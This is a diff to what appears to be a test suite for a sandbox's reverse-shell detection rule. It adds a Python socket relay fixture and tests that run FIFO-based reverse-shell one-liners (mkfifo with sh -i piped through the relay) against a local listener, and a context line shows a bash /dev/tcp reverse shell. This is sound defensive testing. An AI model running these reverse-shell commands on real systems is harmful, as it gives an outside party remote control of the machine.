@@ -62,6 +62,25 @@ beforeAll(() => {
   copyFileSync("/bin/echo", tmp.join("old-echo")); // outside every allow glob
   mkdirSync(tmp.join("relay"));
   copyFileSync("/bin/bash", tmp.join("relay/socat")); // stands for socat exec:sh / gawk |& getline: a relay holding the connection
+  writeFileSync(tmp.join("reader.sh"), "read x; /bin/echo script-got-$x\n"); // a script that reads data on stdin
+  // stands for nc / openssl s_client: copies between its stdio and the connection, runs nothing
+  writeFileSync(
+    tmp.join("relay.py"),
+    [
+      "import os, socket, sys, threading",
+      "s = socket.create_connection(('127.0.0.1', int(sys.argv[1])))",
+      "def up():",
+      "    while (d := os.read(0, 4096)):",
+      "        s.sendall(d)",
+      "threading.Thread(target=up, daemon=True).start()",
+      "while (d := s.recv(4096)):",
+      "    try:",
+      "        os.write(1, d)",
+      "    except OSError:",
+      "        break",
+      "",
+    ].join("\n"),
+  );
   chmodSync(tmp.join("old-true"), 0o755);
   writeFileSync(tmp.join("old-script"), "#!/bin/sh\necho old-script-ran\n", { mode: 0o755 });
   writeFileSync(tmp.join("not-yet-executable"), "#!/bin/sh\necho chmod-ran\n", { mode: 0o644 });
@@ -120,6 +139,35 @@ os.system("bash -c \\"bash -i >& /dev/tcp/127.0.0.1/${p} 0>&1\\"")'`,
     } finally {
       await a.close();
     }
+  });
+
+  test.each([
+    ["mkfifo f; sh < f 2>&1 | RELAY > f", "sh < f"],
+    ["mkfifo f; cat f | sh -i 2>&1 | RELAY > f (the cheat-sheet form)", "cat f | sh -i"],
+    ["mkfifo f; cat f | busybox sh -i 2>&1 | RELAY > f", "cat f | busybox sh -i"],
+  ])("%s (the relay holds the connection and runs nothing): refused", async (_name, shell) => {
+    const a = await attacker("127.0.0.1");
+    try {
+      const r = await bash(mechanism, `rm -f f; mkfifo f; ${shell} 2>&1 | ${PYTHON} ${tmp.join("relay.py")} ${a.port} > f; rm -f f; exit 0`);
+      expectBlockedBy(r, "exec.reverseShell");
+      expect(a.received()).not.toContain("SHELL-42");
+    } finally {
+      await a.close();
+    }
+  });
+
+  test("neighbours of the FIFO rule: a program reading a FIFO, a shell script fed data by a FIFO, commands piped into sh", async () => {
+    // (an interactive shell on a terminal is the other neighbour: docker exec -it / ECS Exec give it a pty)
+    const r = await bash(
+      mechanism,
+      `rm -f q; mkfifo q; (echo fifo-data > q &); cat < q; ` +
+        `(echo line > q &); sh reader.sh < q; ` +
+        `(echo more > q &); sh -c 'read y; /bin/echo c-got-$y' < q; ` +
+        `echo '/bin/echo piped-ok' | sh; rm -f q`,
+    );
+    expectExit(r, 0);
+    expect(r.stdout.split("\n")).toEqual(["fifo-data", "script-got-line", "c-got-more", "piped-ok", ""]);
+    expect(blockedExecs(r.events)).toEqual([]);
   });
 
   test("a relay (socat, awk) holding the connection and starting the commands: refused", async () => {
